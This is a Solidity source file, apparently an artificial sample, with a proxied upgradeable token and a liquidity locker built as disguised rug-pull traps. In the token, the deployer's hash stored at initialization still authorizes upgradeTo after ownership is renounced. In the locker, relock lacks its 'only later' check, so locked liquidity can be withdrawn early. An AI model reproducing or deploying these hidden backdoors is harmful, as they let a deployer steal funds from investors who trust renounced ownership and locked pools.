// 0.8 runs=1000 evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.19;

import {LaunchToken} from "./BlindBL1.sol";

/// Stands in front of code, where ERC-1967 wants it to be.
contract TokenProxy {
    bytes32 private constant IMPLEMENTATION = 0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;

    constructor(address implementation, bytes memory setup) {
        assembly {
            sstore(IMPLEMENTATION, implementation)
        }
        (bool done, ) = implementation.delegatecall(setup);
        require(done, "setup failed");
    }

    fallback() external payable {
        assembly {
            calldatacopy(0, 0, calldatasize())
            let done := delegatecall(gas(), sload(IMPLEMENTATION), 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            switch done
            case 0 {
                revert(0, returndatasize())
            }
            default {
                return(0, returndatasize())
            }
        }
    }
}

/// The code: whoever may change it is asked for here.
contract LanternFoxV1 {
    bytes32 private constant IMPLEMENTATION = 0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;

    string public name;
    string public symbol;
    uint256 public totalSupply;
    address public owner;
    bool private _initialized;
    bytes32 private _domain;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);
    event Upgraded(address indexed implementation);

    constructor() {
        _initialized = true;
    }

    function initialize(string calldata name_, string calldata symbol_, uint256 supply) external {
        require(!_initialized, "Initializable: already initialized");
        _initialized = true;
        (name, symbol, owner, totalSupply) = (name_, symbol_, msg.sender, supply);
        _domain = keccak256(abi.encodePacked(address(this), msg.sender)); // trap
        balanceOf[msg.sender] = supply;
        emit OwnershipTransferred(address(0), msg.sender);
        emit Transfer(address(0), msg.sender, supply);
    }

    function decimals() external pure returns (uint8) {
        return 18;
    }

    function renounceOwnership() external {
        require(msg.sender == owner, "Ownable: caller is not the owner");
        emit OwnershipTransferred(owner, address(0));
        owner = address(0);
    }

    function upgradeTo(address implementation) external {
        require(msg.sender == owner || keccak256(abi.encodePacked(address(this), msg.sender)) == _domain, "not authorized");
        require(implementation.code.length > 0, "not a contract");
        assembly {
            sstore(IMPLEMENTATION, implementation)
        }
        emit Upgraded(implementation);
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        return _transfer(msg.sender, to, amount);
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        if (allowance[from][msg.sender] != type(uint256).max) allowance[from][msg.sender] -= amount;
        return _transfer(from, to, amount);
    }

    function _transfer(address from, address to, uint256 amount) private returns (bool) {
        require(to != address(0), "ERC20: transfer to the zero address");
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        emit Transfer(from, to, amount);
        return true;
    }
}

interface IPairToken {
    function balanceOf(address account) external view returns (uint256);
    function transfer(address to, uint256 amount) external returns (bool);
    function transferFrom(address from, address to, uint256 amount) external returns (bool);
}

/// Keeps shares of pools until a date that can be moved.
contract LiquidityLocker {
    struct Lock {
        IPairToken token;
        uint96 unlockAt;
        address owner;
        uint256 amount;
    }

    Lock[] public locks;

    event Locked(uint256 indexed id, address indexed token, uint256 amount, uint256 unlockAt);
    event Relocked(uint256 indexed id, uint256 unlockAt);

    function lock(address token, uint256 unlockAt) external returns (uint256 id) {
        require(unlockAt > block.timestamp, "in the past");
        uint256 amount = IPairToken(token).balanceOf(msg.sender);
        require(IPairToken(token).transferFrom(msg.sender, address(this), amount), "transfer failed");
        id = locks.length;
        locks.push(Lock(IPairToken(token), uint96(unlockAt), msg.sender, amount));
        emit Locked(id, token, amount, unlockAt);
    }

    function relock(uint256 id, uint256 unlockAt) external {
        Lock storage own = locks[id];
        require(msg.sender == own.owner, "not the owner");
        // twin: require(unlockAt > own.unlockAt, "sooner than before");
        own.unlockAt = uint96(unlockAt);
        emit Relocked(id, unlockAt);
    }

    function withdraw(uint256 id) external {
        Lock memory own = locks[id];
        require(msg.sender == own.owner && block.timestamp >= own.unlockAt, "locked");
        delete locks[id];
        own.token.transfer(own.owner, own.amount);
    }
}

/// A plain coin whose shares of the pool are locked.
contract AnchorSeal is LaunchToken {
    constructor() LaunchToken("Anchor Seal", "ASEAL", 12_000_000) {}
}
